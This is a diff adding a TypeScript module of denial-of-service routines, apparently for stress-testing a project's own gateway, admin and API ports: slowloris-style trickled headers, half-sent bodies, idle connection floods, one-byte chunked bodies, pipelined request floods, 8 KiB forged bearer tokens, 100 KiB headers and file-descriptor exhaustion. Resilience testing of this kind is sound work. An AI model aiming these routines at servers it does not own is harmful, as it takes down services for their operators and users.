@@ -1,0 +1,170 @@
+/** What any HTTP server meets: connections that say nothing, little, or too much. The same on all three ports. */
+import { setTimeout as pause } from "node:timers/promises";
+import type { Attack, Load, Target } from "./attack.ts";
+import { countAnswers, dial, httpRequest, keepBusy, pipeline, untilGone, write } from "./peers.ts";
+
+type Door = "gateway" | "admin" | "api";
+
+const doors: readonly { door: Door; title: string; suffix: string; path: string }[] = [
+  { door: "gateway", title: "the public port", suffix: "", path: "/v1/bootstrap" },
+  { door: "admin", title: "the admin port", suffix: "-admin", path: "/livez" },
+  { door: "api", title: "the private API's port", suffix: "-api", path: "/v1/publish" },
+];
+
+/** A crowd of connections for each one that was asked for. */
+const crowd = 250;
+const trickleEveryMs = 500;
+const oneByte = Buffer.from("a");
+
+async function stayIdle(url: URL, load: Load): Promise<void> {
+  await keepBusy(load, async () => {
+    const socket = await dial(url, load);
+    load.sent(1, 0);
+    await untilGone(socket, load);
+  });
+}
+
+/** Begins a request, then sends a byte in a while so that the connection is never idle. */
+async function trickle(url: URL, beginning: Buffer, load: Load): Promise<void> {
+  await keepBusy(load, async () => {
+    const socket = await dial(url, load);
+    socket.resume();
+    await write(socket, beginning);
+    load.sent(1, beginning.length);
+    while (!load.over && !socket.destroyed) {
+      await pause(trickleEveryMs);
+      await write(socket, oneByte);
+      load.sent(0, 1);
+    }
+  });
+}
+
+/** Announces more than it sends, and waits. */
+async function halfSend(url: URL, path: string, load: Load): Promise<void> {
+  const announced = { "content-type": "application/json", "content-length": 60_000 };
+  const beginning = httpRequest(`POST ${path}`, url, announced);
+  await keepBusy(load, async () => {
+    const socket = await dial(url, load);
+    socket.resume();
+    await write(socket, beginning);
+    load.sent(1, beginning.length);
+    await untilGone(socket, load);
+  });
+}
+
+async function dialAndLeave(url: URL, load: Load): Promise<void> {
+  await keepBusy(load, async () => {
+    const socket = await dial(url, load);
+    load.sent(1, 0);
+    socket.destroy();
+  });
+}
+
+/** Chunks of one byte: each costs the parser as much as a large one. */
+async function chunk(url: URL, path: string, load: Load): Promise<void> {
+  const beginning = httpRequest(`POST ${path}`, url, {
+    "content-type": "application/json",
+    "transfer-encoding": "chunked",
+  });
+  const chunks = Buffer.from("1\r\na\r\n".repeat(10_000));
+  await keepBusy(load, async () => {
+    const socket = await dial(url, load);
+    countAnswers(socket, load);
+    await write(socket, beginning);
+    while (!load.over && !socket.destroyed) {
+      await write(socket, chunks);
+      load.sent(10_000, chunks.length);
+    }
+  });
+}
+
+const onEachDoor = doors.flatMap(({ door, title, suffix, path }): Attack[] => [
+  {
+    name: `idle-connections${suffix}`,
+    does: `connections to ${title} that say nothing, ${crowd} for each connection`,
+    needs: "nothing",
+    connectionsEach: crowd,
+    run: async (target, load) => stayIdle(target[door], load),
+  },
+  {
+    name: `slow-heads${suffix}`,
+    does: `requests to ${title} whose head comes byte by byte and never ends, ${crowd} for each connection`,
+    needs: "nothing",
+    connectionsEach: crowd,
+    run: async (target, load) => trickle(target[door], Buffer.from(`GET ${path} HTTP/1.1\r\nx-slow: `), load),
+  },
+  {
+    name: `half-sent-bodies${suffix}`,
+    does: `requests to ${title} whose body never comes, ${crowd} for each connection`,
+    needs: "nothing",
+    connectionsEach: crowd,
+    run: async (target, load) => halfSend(target[door], path, load),
+  },
+  {
+    name: `tiny-chunks${suffix}`,
+    does: `bodies to ${title} in chunks of one byte`,
+    needs: "nothing",
+    run: async (target, load) => chunk(target[door], path, load),
+  },
+  {
+    name: `connects${suffix}`,
+    does: `connections to ${title} that end at once`,
+    needs: "nothing",
+    run: async (target, load) => dialAndLeave(target[door], load),
+  },
+]);
+
+/** Requests that anybody may make, without waiting for the answers. */
+const pipelines: readonly { name: string; door: Door; request: string }[] = [
+  { name: "pipelined-bootstraps", door: "gateway", request: "GET /v1/bootstrap" },
+  { name: "pipelined-unknown-paths", door: "gateway", request: `GET /${"x".repeat(200)}` },
+  { name: "pipelined-engine", door: "gateway", request: "GET /socket.io/?EIO=4&transport=polling" },
+  { name: "pipelined-metrics", door: "admin", request: "GET /metrics" },
+  { name: "pipelined-openapi", door: "api", request: "GET /openapi.json" },
+  { name: "pipelined-api-metrics", door: "api", request: "GET /metrics" },
+  { name: "pipelined-publishes", door: "api", request: "POST /v1/publish" },
+];
+
+/** Few descriptors, so that a handful of connections stands for the thousands that it would take otherwise. */
+const descriptors = 512;
+const beyondDescriptors = 200;
+
+async function exhaust(target: Target, door: Door, path: string, load: Load): Promise<void> {
+  const idle: Load = load.part(Math.floor(load.connections / 2));
+  const sending: Load = load.part(Math.ceil(load.connections / 2));
+  await Promise.all([stayIdle(target[door], idle), halfSend(target[door], path, sending)]);
+}
+
+export const doorAttacks: readonly Attack[] = [
+  ...onEachDoor,
+  ...pipelines.map(({ name, door, request }): Attack => ({
+    name,
+    does: `${request.slice(0, 40)} again and again without waiting for answers`,
+    needs: "nothing",
+    run: async (target, load) => pipeline(target[door], httpRequest(request, target[door]), load),
+  })),
+  {
+    name: "forged-bootstraps",
+    does: "bootstraps with forged tokens of 8 KiB, without waiting for answers",
+    needs: "nothing",
+    run: async ({ gateway }, load) => {
+      const token = `eyJhbGciOiJIUzI1NiJ9.${"A".repeat(8_000)}.${"A".repeat(43)}`;
+      await pipeline(gateway, httpRequest("GET /v1/bootstrap", gateway, { authorization: `Bearer ${token}` }), load);
+    },
+  },
+  {
+    name: "large-heads",
+    does: "requests with 100 KiB of header",
+    needs: "nothing",
+    run: async ({ gateway }, load) =>
+      pipeline(gateway, httpRequest("GET /v1/bootstrap", gateway, { "x-large": "a".repeat(100_000) }), load),
+  },
+  ...doors.map(({ door, title, suffix, path }): Attack => ({
+    name: `descriptors${suffix}`,
+    does: `idle connections and half-sent bodies to ${title} of programs that may open ${descriptors} files`,
+    needs: "nothing",
+    descriptors,
+    connectionsEach: Math.ceil((descriptors + beyondDescriptors) / 4),
+    run: async (target, load) => exhaust(target, door, path, load),
+  })),
+];
